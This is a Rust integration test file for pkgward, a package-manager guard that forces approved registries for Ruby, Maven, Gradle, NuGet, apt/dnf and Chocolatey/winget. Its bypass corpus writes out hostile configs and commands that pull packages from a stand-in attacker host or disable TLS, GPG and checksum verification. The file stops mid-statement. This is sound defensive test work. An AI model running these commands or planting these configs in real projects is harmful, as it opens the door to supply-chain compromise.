//! Approved registries for gem/bundle, mvn/gradle, dotnet/nuget, apt/dnf and
//! choco/winget, end to end through the pkgward shims: the real `mvn` against
//! a Maven repository this test serves on 127.0.0.1, the real `gem` and
//! `bundle` against a gem source it serves (when Ruby is installed), stand-in
//! tools for the others, an unapproved listener (`evil()`) that must never be
//! reached, a bypass corpus in enforce and audit modes, a legit corpus, and
//! mirrors forced over hostile project and user configuration.

mod support;

use std::ffi::OsString;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::OnceLock;

use support::archive::{zip, Entry};
use support::digest::sha1_hex;
use support::guard::{evil, pkgward_bin, text, Guarded};
use support::shared;
use support::tools::find_in_path;

/// Every tool of these ecosystems, as shims.
const TOOLS: &[&str] = &[
    "gem", "bundle", "mvn", "gradle", "dotnet", "nuget", "apt", "apt-get", "yum", "dnf", "choco",
    "winget",
];

fn base() -> String {
    shared().base_url()
}

/// The Maven repository served under `/maven/`: a parent POM, a build
/// extension (POM + jar) and the stub `plexus-utils` Maven adds to extension
/// realms, each with a `.sha1`.
fn maven_repo() -> String {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let s = &shared().server;
        let put = |path: &str, ct: &str, body: Vec<u8>| {
            s.serve(&format!("/maven/{path}.sha1"), "text/plain", sha1_hex(&body));
            s.serve(&format!("/maven/{path}"), ct, body);
        };
        let pom = |g: &str, a: &str, v: &str, extra: &str| {
            format!("<project><modelVersion>4.0.0</modelVersion><groupId>{g}</groupId><artifactId>{a}</artifactId><version>{v}</version>{extra}</project>\n").into_bytes()
        };
        let jar = zip(&[Entry::file(
            "META-INF/MANIFEST.MF",
            "Manifest-Version: 1.0\r\n\r\n",
        )]);
        put(
            "pw/pw-parent/1.0/pw-parent-1.0.pom",
            "application/xml",
            pom("pw", "pw-parent", "1.0", "<packaging>pom</packaging>"),
        );
        put("pw/pw-ext/1.0/pw-ext-1.0.pom", "application/xml", pom("pw", "pw-ext", "1.0", ""));
        put("pw/pw-ext/1.0/pw-ext-1.0.jar", "application/java-archive", jar.clone());
        let plexus = "org/codehaus/plexus/plexus-utils/1.1/plexus-utils-1.1";
        put(
            &format!("{plexus}.pom"),
            "application/xml",
            pom("org.codehaus.plexus", "plexus-utils", "1.1", ""),
        );
        put(&format!("{plexus}.jar"), "application/java-archive", jar);
    });
    format!("{}/maven/", base())
}

/// A project whose parent POM and build extension come from repositories;
/// the extension's version is a property (from settings, in some tests).
fn maven_project(dir: &Path, repos: &str, ext_version: &str) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("pom.xml"),
        format!(
            "<project><modelVersion>4.0.0</modelVersion>\n\
             <parent><groupId>pw</groupId><artifactId>pw-parent</artifactId><version>1.0</version><relativePath/></parent>\n\
             <artifactId>app</artifactId><packaging>pom</packaging>\n\
             {repos}\n\
             <build><extensions><extension><groupId>pw</groupId><artifactId>pw-ext</artifactId><version>{ext_version}</version></extension></extensions></build>\n\
             </project>\n"
        ),
    )
    .unwrap();
}

/// Ruby's `gem`, if installed: the gem tests need it (CI installs it).
fn ruby() -> bool {
    find_in_path("gem").is_some() && find_in_path("bundle").is_some()
}

/// A gem source served under `/gems/` (a static index built by the real
/// `gem build` and `gem generate_index`), or `None` without Ruby.
fn gem_source() -> Option<String> {
    static DONE: OnceLock<bool> = OnceLock::new();
    let ok = *DONE.get_or_init(|| {
        if !ruby() {
            return false;
        }
        let tmp = tempfile::tempdir().unwrap();
        let src = tmp.path().join("src");
        let repo = tmp.path().join("repo");
        std::fs::create_dir_all(src.join("lib")).unwrap();
        std::fs::create_dir_all(repo.join("gems")).unwrap();
        std::fs::write(
            src.join("pw.gemspec"),
            "Gem::Specification.new do |s|\n  s.name = 'pw-gem'\n  s.version = '1.0.0'\n  s.summary = 'pkgward fixture'\n  s.authors = ['pkgward']\n  s.license = 'MIT'\n  s.files = ['lib/pw_gem.rb']\nend\n",
        )
        .unwrap();
        std::fs::write(src.join("lib/pw_gem.rb"), "module PwGem; VALUE = 1; end\n").unwrap();
        let gem = |args: &[&str], dir: &Path| {
            let out = Command::new("gem")
                .args(args)
                .current_dir(dir)
                .env("HOME", tmp.path())
                .env_remove("GEMRC")
                .output()
                .unwrap();
            assert!(out.status.success(), "gem {args:?}: {}", text(&out.stderr));
        };
        gem(&["build", "pw.gemspec"], &src);
        std::fs::copy(src.join("pw-gem-1.0.0.gem"), repo.join("gems/pw-gem-1.0.0.gem")).unwrap();
        gem(&["generate_index", "-d", repo.to_str().unwrap()], &repo);
        let mut stack = vec![repo.clone()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap() {
                let p = e.unwrap().path();
                if p.is_dir() {
                    stack.push(p);
                } else {
                    let rel = p.strip_prefix(&repo).unwrap().to_string_lossy().into_owned();
                    shared().server.serve(
                        &format!("/gems/{rel}"),
                        "application/octet-stream",
                        std::fs::read(&p).unwrap(),
                    );
                }
            }
        }
        true
    });
    ok.then(|| format!("{}/gems/", base()))
}

fn policy(mode: &str, mirrors: &[(&str, &str)]) -> String {
    let b = base();
    let mut p = format!(
        "mode = \"{mode}\"\n[registries]\n\
         rubygems = [\"builtin\", \"{b}/gems/\"]\n\
         maven = [\"builtin\", \"{b}/maven/\"]\n\
         nuget = [\"builtin\", \"{b}/nuget/\"]\n\
         apt = [\"{b}/apt/\"]\n\
         rpm = [\"{b}/rpm/\"]\n\
         choco = [\"builtin\", \"{b}/choco/\"]\n\
         winget = [\"builtin\"]\n"
    );
    // The fixture POMs' build extension (install-time code, decided by
    // `[scripts]`: see tests/scripts_maven.rs).
    p.push_str("[scripts]\nallow = [\"maven:pw:pw-ext\"]\n");
    if !mirrors.is_empty() {
        p.push_str("[mirrors]\n");
        for (eco, url) in mirrors {
            p.push_str(&format!("{eco} = \"{url}\"\n"));
        }
    }
    p
}

/// A guarded sandbox with shims for every tool here.
fn guarded(policy: &str) -> Guarded {
    let g = Guarded::new(policy);
    for t in TOOLS {
        std::os::unix::fs::symlink(pkgward_bin(), g.shims.join(t)).unwrap();
    }
    g
}

/// Stand-ins for the real tools: they record their argv (one per line) in
/// `$FIXTURE_MARKER_DIR/ran`, plus the generated file a forced plan named.
fn fake_tools(g: &Guarded, tools: &[&str]) {
    for t in tools {
        let p = g.real.join(t);
        let _ = std::fs::remove_file(&p);
        std::fs::write(
            &p,
            "#!/bin/sh\n\
             [ -n \"$PKGWARD_PROBE\" ] && exit 0 # pkgward asking for its default registry\n\
             out=\"$FIXTURE_MARKER_DIR/ran\"\n\
             : > \"$out\"\n\
             for a in \"$@\"; do printf '%s\\n' \"$a\" >> \"$out\"; done\n\
             for a in \"$@\"; do\n\
               case \"$a\" in\n\
                 */mirror.gradle) cat \"$a\" > \"$FIXTURE_MARKER_DIR/generated\" ;;\n\
                 Dir::Etc::SourceList=*) cat \"${a#Dir::Etc::SourceList=}\" > \"$FIXTURE_MARKER_DIR/generated\" ;;\n\
               esac\n\
             done\n\
             exit 0\n",
        )
        .unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

/// Runs `tool` through its shim with the sandbox environment plus `env`.
fn run(g: &Guarded, tool: &str, args: &[String], env: &[(String, String)]) -> Output {
    let extra: Vec<(String, OsString)> = env
        .iter()
        .map(|(k, v)| (k.clone(), OsString::from(v)))
        .collect();
    let mut c = if tool == "gradlew" {
        // A project wrapper, reached through `pkgward run`.
        let mut c = g.sb.command(pkgward_bin(), &[g.pkgward_env(), extra]);
        c.args(["run", "--", "./gradlew"]);
        c
    } else {
        g.sb.command(tool, &[g.pkgward_env(), extra])
    };
    c.args(args).output().unwrap()
}

fn s(v: &[&str]) -> Vec<String> {
    v.iter().map(|a| a.to_string()).collect()
}

// ---------------------------------------------------------------------------
// Real tools
// ---------------------------------------------------------------------------

/// Maven reads `~/.m2` from Java's `user.home` (the account's home, not
/// `$HOME`): the tests point it at the sandbox.
fn mvn_env(g: &Guarded) -> Vec<(String, String)> {
    vec![(
        "MAVEN_OPTS".to_string(),
        format!("-Duser.home={}", g.sb.home.display()),
    )]
}

fn mvn_args(g: &Guarded) -> Vec<String> {
    vec![
        "-B".into(),
        format!(
            "-Dmaven.repo.local={}",
            g.sb.root().join("m2repo").display()
        ),
        "validate".into(),
    ]
}

#[test]
fn maven_approved_resolve_succeeds() {
    let repo = maven_repo();
    let g = guarded(&policy("enforce", &[]));
    let before = evil().connections().len();
    // The user's settings send everything to the approved repository.
    std::fs::create_dir_all(g.sb.home.join(".m2")).unwrap();
    std::fs::write(
        g.sb.home.join(".m2/settings.xml"),
        format!("<settings><mirrors><mirror><id>corp</id><mirrorOf>*</mirrorOf><url>{repo}</url></mirror></mirrors></settings>\n"),
    )
    .unwrap();
    maven_project(
        &g.sb.work,
        &format!("<repositories><repository><id>corp-releases</id><url>{repo}</url></repository></repositories>"),
        "1.0",
    );
    let mark = shared().server.mark();
    let out = run(&g, "mvn", &mvn_args(&g), &mvn_env(&g));
    assert!(
        out.status.success(),
        "{}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    assert_eq!(inv["classification"]["verb"], "install");
    let paths: Vec<String> = shared()
        .server
        .hits_since(mark)
        .into_iter()
        .map(|h| h.path)
        .collect();
    assert!(
        paths
            .iter()
            .any(|p| p == "/maven/pw/pw-parent/1.0/pw-parent-1.0.pom"),
        "{paths:?}"
    );
    assert!(
        paths
            .iter()
            .any(|p| p == "/maven/pw/pw-ext/1.0/pw-ext-1.0.jar"),
        "{paths:?}"
    );
    assert!(g
        .sb
        .root()
        .join("m2repo/pw/pw-ext/1.0/pw-ext-1.0.jar")
        .is_file());
    assert_eq!(evil().connections().len(), before);
}

#[test]
fn maven_mirror_is_forced_over_hostile_pom_and_settings() {
    let repo = maven_repo();
    let g = guarded(&policy("enforce", &[("maven", &repo)]));
    let before = evil().connections().len();
    let evil_url = format!("http://127.0.0.1:{}/", evil().port());
    // The user's settings: a mirror to the attacker, and a profile the build
    // needs (the extension's version): it must be carried over.
    std::fs::create_dir_all(g.sb.home.join(".m2")).unwrap();
    let user = format!(
        "<?xml version=\"1.0\"?>\n<settings>\n  <mirrors>\n    <mirror><id>all</id><mirrorOf>external:*</mirrorOf><url>{evil_url}all/</url></mirror>\n  </mirrors>\n  <servers><server><id>corp</id><username>u</username><password>p</password></server></servers>\n  <profiles><profile><id>p</id><properties><pw.ext.version>1.0</pw.ext.version></properties></profile></profiles>\n  <activeProfiles><activeProfile>p</activeProfile></activeProfiles>\n</settings>\n"
    );
    std::fs::write(g.sb.home.join(".m2/settings.xml"), &user).unwrap();
    // A global settings file with an exact-id mirror, which would otherwise
    // win over any `*` mirror.
    let global = g.sb.root().join("global-settings.xml");
    std::fs::write(
        &global,
        format!("<settings><mirrors><mirror><id>corp</id><mirrorOf>central</mirrorOf><url>{evil_url}central/</url></mirror></mirrors></settings>\n"),
    )
    .unwrap();
    maven_project(
        &g.sb.work,
        &format!("<repositories><repository><id>evil</id><url>{evil_url}pom/</url></repository></repositories>"),
        "${pw.ext.version}",
    );
    let mut args = vec!["-gs".to_string(), global.display().to_string()];
    args.extend(mvn_args(&g));
    let out = run(&g, "mvn", &args, &mvn_env(&g));
    assert!(
        out.status.success(),
        "{}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the attacker's repository was contacted"
    );
    assert!(g
        .sb
        .root()
        .join("m2repo/pw/pw-ext/1.0/pw-ext-1.0.jar")
        .is_file());
    // The user's file is untouched; the record says what was forced.
    assert_eq!(
        std::fs::read_to_string(g.sb.home.join(".m2/settings.xml")).unwrap(),
        user
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow", "{inv}");
    let forced = &inv["decision"]["forced"];
    assert_eq!(forced["args"][0], "-s");
    assert_eq!(forced["files"][0], "settings.xml");
    let overridden = forced["overridden"].to_string();
    assert!(
        overridden.contains("pom.xml")
            && overridden.contains("global-settings.xml")
            && overridden.contains(".m2/settings.xml"),
        "{overridden}"
    );
    // The generated settings (with the user's password) are gone after the run.
    assert!(
        !g.state.join("run").exists()
            || std::fs::read_dir(g.state.join("run"))
                .unwrap()
                .next()
                .is_none()
    );
}

#[test]
fn gem_install_from_an_approved_source_and_forced_over_a_hostile_gemrc() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    let before = evil().connections().len();
    // Approved: an explicit --source.
    let g = guarded(&policy("enforce", &[]));
    let dir = g.sb.root().join("gemhome");
    let args = s(&[
        "install",
        "--no-document",
        "--install-dir",
        dir.to_str().unwrap(),
        "--clear-sources",
        "--source",
        &src,
        "pw-gem",
    ]);
    let out = run(&g, "gem", &args, &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(dir.join("gems/pw-gem-1.0.0/lib/pw_gem.rb").is_file());
    assert_eq!(g.last_invocation()["decision"]["action"], "allow");
    // Forced: ~/.gemrc names the attacker; the mirror replaces it.
    let g = guarded(&policy("enforce", &[("rubygems", &src)]));
    let rc = format!("---\n:sources:\n- http://127.0.0.1:{}/\n", evil().port());
    std::fs::write(g.sb.home.join(".gemrc"), &rc).unwrap();
    let dir = g.sb.root().join("gemhome");
    let out = run(
        &g,
        "gem",
        &s(&[
            "install",
            "--no-document",
            "--install-dir",
            dir.to_str().unwrap(),
            "pw-gem",
        ]),
        &[],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(dir.join("gems/pw-gem-1.0.0/lib/pw_gem.rb").is_file());
    assert_eq!(
        std::fs::read_to_string(g.sb.home.join(".gemrc")).unwrap(),
        rc
    );
    let inv = g.last_invocation();
    assert_eq!(
        inv["decision"]["forced"]["args"],
        serde_json::json!(["--clear-sources", "--source", src])
    );
    assert!(inv["decision"]["forced"]["overridden"][0]["origin"]["path"]
        .as_str()
        .unwrap()
        .ends_with(".gemrc"));
    assert_eq!(
        evil().connections().len(),
        before,
        "the gemrc source was contacted"
    );
}

#[test]
fn bundle_mirror_is_forced_over_a_hostile_gemfile_and_lockfile() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    let before = evil().connections().len();
    let evil_url = format!("http://127.0.0.1:{}/", evil().port());
    // Without a mirror the Gemfile's source is denied.
    let g = guarded(&policy("enforce", &[]));
    g.sb.write(
        "Gemfile",
        format!("source \"{evil_url}\"\ngem \"pw-gem\"\n"),
    );
    let env = vec![(
        "BUNDLE_PATH".to_string(),
        g.sb.root().join("bundle").display().to_string(),
    )];
    let out = run(&g, "bundle", &s(&["install"]), &env);
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("Gemfile:1"));
    // With the mirror forced, the same Gemfile (and a lockfile naming the
    // attacker) installs from the mirror.
    let g = guarded(&policy("enforce", &[("rubygems", &src)]));
    g.sb.write(
        "Gemfile",
        format!("source \"{evil_url}\"\ngem \"pw-gem\"\n"),
    );
    g.sb.write(
        "Gemfile.lock",
        format!("GEM\n  remote: {evil_url}\n  specs:\n    pw-gem (1.0.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  pw-gem\n"),
    );
    let env = vec![(
        "BUNDLE_PATH".to_string(),
        g.sb.root().join("bundle").display().to_string(),
    )];
    let out = run(&g, "bundle", &s(&["install"]), &env);
    assert!(
        out.status.success(),
        "{}\n{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "allow");
    assert!(inv["decision"]["forced"]["env"]
        .to_string()
        .contains("BUNDLE_MIRROR__ALL"));
    assert_eq!(
        inv["decision"]["forced"]["overridden"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    assert_eq!(
        evil().connections().len(),
        before,
        "the Gemfile's source was contacted"
    );
}

// ---------------------------------------------------------------------------
// Bypass and legit corpora (stand-in tools)
// ---------------------------------------------------------------------------

/// One attempt: tool, arguments, environment, files (relative to the
/// sandbox root; `ROOT` and `EVIL/` are replaced), what the denial names.
struct Case {
    name: &'static str,
    tool: &'static str,
    args: Vec<String>,
    env: Vec<(String, String)>,
    files: Vec<(String, String)>,
    names: String,
}

fn corpus_case(
    name: &'static str,
    tool: &'static str,
    args: &[&str],
    env: &[(&str, &str)],
    files: &[(&str, &str)],
    names: &str,
) -> Case {
    Case {
        name,
        tool,
        args: s(args),
        env: env
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        files: files
            .iter()
            .map(|(p, t)| (p.to_string(), t.to_string()))
            .collect(),
        names: names.to_string(),
    }
}

fn bypass_corpus() -> Vec<Case> {
    let c = corpus_case;
    let pom_repo = "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>y</artifactId><version>1</version>\n<repositories>\n<repository><id>e</id><url>EVIL/m2</url></repository>\n</repositories>\n</project>\n";
    let pom_plugin = "<project>\n<pluginRepositories>\n<pluginRepository><id>e</id>\n<url>EVIL/plugins</url></pluginRepository>\n</pluginRepositories>\n</project>\n";
    let settings_mirror = "<settings>\n<mirrors>\n<mirror><id>m</id><mirrorOf>*</mirrorOf>\n<url>EVIL/mirror</url></mirror>\n</mirrors>\n</settings>\n";
    let settings_profile = "<settings>\n<profiles><profile><id>p</id><repositories><repository><id>r</id>\n<url>EVIL/profile</url></repository></repositories></profile></profiles>\n<activeProfiles><activeProfile>p</activeProfile></activeProfiles>\n</settings>\n";
    vec![
        // gem
        c("gem --source", "gem", &["install", "--source", "EVIL/", "x"], &[], &[], "--source"),
        c("gem -sURL", "gem", &["i", "-sEVIL/", "x"], &[], &[], "-s"),
        c("gem --so abbreviation", "gem", &["install", "--so", "EVIL/", "x"], &[], &[], "--so"),
        c("gem --clear-sources --source", "gem", &["update", "--clear-sources", "--source=EVIL/"], &[], &[], "--source"),
        c("~/.gemrc :sources:", "gem", &["install", "x"], &[], &[("home/.gemrc", "---\n:sources:\n- EVIL/\n")], ".gemrc:3"),
        c("GEMRC file", "gem", &["fetch", "x"], &[("GEMRC", "ROOT/alt-gemrc")], &[("alt-gemrc", ":sources: [EVIL/]\n")], "alt-gemrc:1"),
        c("gemrc ssl_verify_mode 0", "gem", &["install", "x"], &[], &[("home/.gemrc", ":ssl_verify_mode: 0\n")], "ssl_verify_mode"),
        c("gem install URL", "gem", &["install", "EVIL/x-1.0.gem"], &[], &[], "EVIL"),
        c("gem sources --add", "gem", &["sources", "--add", "EVIL/"], &[], &[], "--add"),
        // bundle
        c("Gemfile source", "bundle", &["install"], &[], &[("work/Gemfile", "source \"EVIL/\"\ngem \"x\"\n")], "Gemfile:1"),
        c("Gemfile source block", "bundle", &["install"], &[], &[("work/Gemfile", "# team gems\nsource 'EVIL/' do\n  gem 'x'\nend\n")], "Gemfile:2"),
        c("Gemfile gem source:", "bundle", &[], &[], &[("work/Gemfile", "gem 'x', source: 'EVIL/'\n")], "Gemfile:1"),
        c("Gemfile git:", "bundle", &["update"], &[], &[("work/Gemfile", "gem 'x', git: 'EVIL/x.git'\n")], "Gemfile:1"),
        c("Gemfile github:", "bundle", &["install"], &[], &[("work/Gemfile", "gem 'x', github: 'evil/x'\n")], "github:evil/x"),
        c("Gemfile.lock remote", "bundle", &["install"], &[], &[("work/Gemfile", "gem 'x'\n"), ("work/Gemfile.lock", "GEM\n  remote: EVIL/\n  specs:\n    x (1.0)\n")], "Gemfile.lock:2"),
        c(".bundle/config mirror.all", "bundle", &["install"], &[], &[("work/Gemfile", "gem 'x'\n"), ("work/.bundle/config", "---\nBUNDLE_MIRROR__ALL: \"EVIL/\"\n")], ".bundle/config:2"),
        c("BUNDLE_MIRROR__ALL env", "bundle", &["install"], &[("BUNDLE_MIRROR__ALL", "EVIL/")], &[("work/Gemfile", "gem 'x'\n")], "BUNDLE_MIRROR__ALL"),
        c("BUNDLE_GEMFILE", "bundle", &["install"], &[("BUNDLE_GEMFILE", "ROOT/other/Gemfile")], &[("other/Gemfile", "source 'EVIL/'\n")], "other/Gemfile:1"),
        c(".bundle/config BUNDLE_GEMFILE", "bundle", &["install"], &[], &[("work/Gemfile", "gem 'x'\n"), ("work/.bundle/config", "---\nBUNDLE_GEMFILE: \"other/Gemfile\"\n"), ("work/other/Gemfile", "source 'EVIL/'\ngem 'x'\n")], "other/Gemfile:1"),
        c("bundle add --source", "bundle", &["add", "x", "--source", "EVIL/"], &[], &[("work/Gemfile", "")], "--source"),
        c("bundle config mirror", "bundle", &["config", "set", "--global", "mirror.https://x.test", "EVIL/"], &[], &[], "EVIL"),
        // maven
        c("pom.xml repository", "mvn", &["-B", "package"], &[], &[("work/pom.xml", pom_repo)], "pom.xml:3"),
        c("pom.xml pluginRepository", "mvn", &["verify"], &[], &[("work/pom.xml", pom_plugin)], "pom.xml:4"),
        c("module pom repository", "mvn", &["install"], &[], &[("work/pom.xml", "<project><modules><module>sub</module></modules></project>"), ("work/sub/pom.xml", pom_repo)], "sub/pom.xml:3"),
        c("~/.m2/settings.xml mirror", "mvn", &["compile"], &[], &[("home/.m2/settings.xml", settings_mirror)], "settings.xml:4"),
        c("settings active profile repository", "mvn", &["compile"], &[], &[("home/.m2/settings.xml", settings_profile)], "settings.xml:3"),
        c("mvn -s settings", "mvn", &["-s", "ROOT/alt-settings.xml", "compile"], &[], &[("alt-settings.xml", settings_mirror)], "alt-settings.xml:4"),
        c(".mvn/maven.config -s", "mvn", &["compile"], &[], &[("work/.mvn/maven.config", "-s\nROOT/alt-settings.xml\n"), ("alt-settings.xml", settings_mirror)], "alt-settings.xml:4"),
        c("mvn -D insecure TLS", "mvn", &["-Dmaven.wagon.http.ssl.insecure=true", "compile"], &[], &[], "maven.wagon.http.ssl.insecure"),
        c("MAVEN_OPTS insecure TLS", "mvn", &["compile"], &[("MAVEN_OPTS", "-Dmaven.wagon.http.ssl.allowall=true")], &[], "MAVEN_OPTS"),
        c("dependency:get remoteRepositories", "mvn", &["dependency:get", "-DremoteRepositories=e::default::EVIL/m2", "-Dartifact=x:y:1"], &[], &[], "EVIL"),
        c("mvn deploy distributionManagement", "mvn", &["deploy"], &[], &[("work/pom.xml", "<project>\n<distributionManagement><repository><id>d</id>\n<url>EVIL/deploy</url></repository></distributionManagement></project>")], "pom.xml:3"),
        // gradle
        c("build.gradle maven url", "gradle", &["build"], &[], &[("work/build.gradle", "repositories {\n    mavenCentral()\n    maven { url 'EVIL/m2' }\n}\n")], "build.gradle:3"),
        c("settings.gradle.kts pluginManagement", "gradle", &["build"], &[], &[("work/settings.gradle.kts", "pluginManagement {\n  repositories {\n    maven(\"EVIL/plugins\")\n  }\n}\n")], "settings.gradle.kts:3"),
        c("gradle -I init script", "gradle", &["-I", "ROOT/init.gradle", "build"], &[], &[("init.gradle", "allprojects { repositories { maven { url = uri(\"EVIL/init\") } } }\n")], "init.gradle:1"),
        c("gradle allowInsecureProtocol", "gradle", &["build"], &[], &[("work/build.gradle", "repositories {\n  maven {\n    url \"https://approved.invalid/\"\n    allowInsecureProtocol = true\n  }\n}\n")], "allowInsecureProtocol"),
        c("gradlew distributionUrl", "gradlew", &["build"], &[], &[("work/gradle/wrapper/gradle-wrapper.properties", "distributionUrl=EVIL/gradle-8-bin.zip\n")], "gradle-wrapper.properties:1"),
        // dotnet / nuget
        c("dotnet restore --source", "dotnet", &["restore", "--source", "EVIL/v3/index.json"], &[], &[], "--source"),
        c("dotnet add package -s", "dotnet", &["add", "package", "X", "-s", "EVIL/v3/index.json"], &[], &[], "-s"),
        c("nuget.config packageSources", "dotnet", &["build"], &[], &[("work/nuget.config", "<configuration>\n<packageSources>\n<add key=\"e\" value=\"EVIL/v3/index.json\" />\n</packageSources>\n</configuration>\n")], "nuget.config:3"),
        c("user NuGet.Config", "dotnet", &["restore"], &[], &[("home/.nuget/NuGet/NuGet.Config", "<configuration><packageSources><add key=\"e\" value=\"EVIL/v3/index.json\"/></packageSources></configuration>")], "NuGet.Config:1"),
        c("dotnet -p:RestoreSources", "dotnet", &["build", "-p:RestoreSources=EVIL/v3/index.json"], &[], &[], "-p"),
        c("Directory.Build.props RestoreSources", "dotnet", &["test"], &[], &[("work/Directory.Build.props", "<Project>\n  <PropertyGroup>\n    <RestoreAdditionalProjectSources>EVIL/v3/index.json</RestoreAdditionalProjectSources>\n  </PropertyGroup>\n</Project>\n")], "Directory.Build.props:3"),
        c("allowInsecureConnections", "dotnet", &["restore"], &[], &[("work/nuget.config", "<configuration><packageSources><add key=\"a\" value=\"https://approved.invalid/\" allowInsecureConnections=\"true\"/></packageSources></configuration>")], "allowInsecureConnections"),
        c("nuget.exe -Source", "nuget", &["install", "X", "-Source", "EVIL/v3/index.json"], &[], &[], "-Source"),
        c("dotnet tool --add-source", "dotnet", &["tool", "install", "-g", "x", "--add-source", "EVIL/v3/index.json"], &[], &[], "--add-source"),
        // apt / dnf
        c("apt --allow-unauthenticated", "apt-get", &["install", "--allow-unauthenticated", "x"], &[("APT_CONFIG", "ROOT/apt.conf")], &[("apt.conf", "Dir::Etc::SourceList \"ROOT/sources.list\";\nDir::Etc::SourceParts \"/dev/null\";\n"), ("sources.list", "")], "--allow-unauthenticated"),
        c("apt sources.list via APT_CONFIG", "apt", &["update"], &[("APT_CONFIG", "ROOT/apt.conf")], &[("apt.conf", "Dir::Etc::SourceList \"ROOT/sources.list\";\nDir::Etc::SourceParts \"/dev/null\";\n"), ("sources.list", "# x\ndeb EVIL/debian bookworm main\n")], "sources.list:2"),
        c("apt -o SourceList", "apt-get", &["update", "-o", "Dir::Etc::SourceList=ROOT/evil.list", "-o", "Dir::Etc::SourceParts=/dev/null"], &[], &[("evil.list", "deb EVIL/debian bookworm main\n")], "evil.list:1"),
        c("apt [trusted=yes]", "apt-get", &["update", "-o", "Dir::Etc::SourceList=ROOT/t.list", "-o", "Dir::Etc::SourceParts=/dev/null"], &[], &[("t.list", "deb [trusted=yes] BASE/apt/ x main\n")], "trusted"),
        c("dnf --repofrompath", "dnf", &["install", "-c", "ROOT/dnf.conf", "--repofrompath=e,EVIL/rpm", "x"], &[], &[("dnf.conf", "[main]\nreposdir=ROOT/none\n")], "--repofrompath"),
        c("dnf --nogpgcheck", "dnf", &["install", "-c", "ROOT/dnf.conf", "--nogpgcheck", "x"], &[], &[("dnf.conf", "[main]\nreposdir=ROOT/none\n")], "--nogpgcheck"),
        c("dnf install URL", "dnf", &["install", "-c", "ROOT/dnf.conf", "EVIL/x.rpm"], &[], &[("dnf.conf", "[main]\nreposdir=ROOT/none\n")], "EVIL"),
        c("yum repo file baseurl", "yum", &["-c", "ROOT/yum.conf", "update"], &[], &[("yum.conf", "[main]\nreposdir=ROOT/repos\n"), ("repos/e.repo", "[e]\nname=e\nbaseurl=EVIL/rpm\n")], "e.repo:3"),
        // choco / winget
        c("choco -s", "choco", &["install", "x", "-s", "EVIL/api/v2/"], &[], &[], "-s"),
        c("choco --source= list", "choco", &["upgrade", "x", "--source=\"BASE/choco/;EVIL/api/v2/\""], &[], &[], "--source"),
        c("choco --ignore-checksums", "choco", &["install", "x", "--ignore-checksums"], &[], &[], "--ignore-checksums"),
        c("chocolatey.config source", "choco", &["install", "x"], &[("ChocolateyInstall", "ROOT/choco")], &[("choco/config/chocolatey.config", "<chocolatey>\n<sources>\n<source id=\"e\" value=\"EVIL/api/v2/\" />\n</sources>\n</chocolatey>\n")], "chocolatey.config:3"),
        c("winget unknown source name", "winget", &["install", "x", "--source", "corp"], &[], &[], "--source"),
        c("winget source add", "winget", &["source", "add", "corp", "EVIL/cache"], &[], &[], "EVIL"),
        c("winget --ignore-security-hash", "winget", &["install", "x", "--ignore-security-hash"], &[], &[], "--ignore-security-hash"),
    ]
}

/// Writes a case's files and substitutes its tokens.
fn apply(g: &Guarded, c: &Case) -> (Vec<String>, Vec<(String, String)>) {
    let root = g.sb.root().display().to_string();
    let evil_url = format!("http://127.0.0.1:{}", evil().port());
    let fix = |v: &str| {
        v.replace("EVIL/", &format!("{evil_url}/"))
            .replace("BASE/", &format!("{}/", base()))
            .replace("ROOT", &root)
    };
    for (rel, t) in &c.files {
        let p = g.sb.root().join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, fix(t)).unwrap();
    }
    if c.tool == "gradlew" {
        let p = g.sb.work.join("gradlew");
        std::fs::write(
            &p,
            "#!/bin/sh\nprintf '%s\\n' \"$@\" > \"$FIXTURE_MARKER_DIR/ran\"\n",
        )
        .unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    (
        c.args.iter().map(|a| fix(a)).collect(),
        c.env.iter().map(|(k, v)| (k.clone(), fix(v))).collect(),
    )
}

fn expected(g: &Guarded, c: &Case) -> String {
    c.names
        .replace("EVIL", &format!("127.0.0.1:{}", evil().port()))
        .replace("ROOT", &g.sb.root().display().to_string())
}

#[test]
fn bypass_corpus_is_denied_in_enforce_mode_before_any_request() {
    let corpus = bypass_corpus();
    assert!(corpus.len() >= 30, "the corpus has {} cases", corpus.len());
    let before = evil().connections().len();
    let mut failures = Vec::new();
    for c in &corpus {
        let g = guarded(&policy("enforce", &[]));
        fake_tools(&g, TOOLS);
        let (args, env) = apply(&g, c);
        let out = run(&g, c.tool, &args, &env);
        let err = text(&out.stderr);
        let names = expected(&g, c);
        if out.status.code() != Some(77)
            || !err.contains("pkgward: denied")
            || !err.contains(&names)
        {
            failures.push(format!(
                "{}: exit {:?} (want {names:?})\n{err}",
                c.name,
                out.status.code()
            ));
            continue;
        }
        if g.sb.marker("ran").is_some() {
            failures.push(format!("{}: the tool ran", c.name));
        }
        if g.last_invocation()["decision"]["action"] != "deny" {
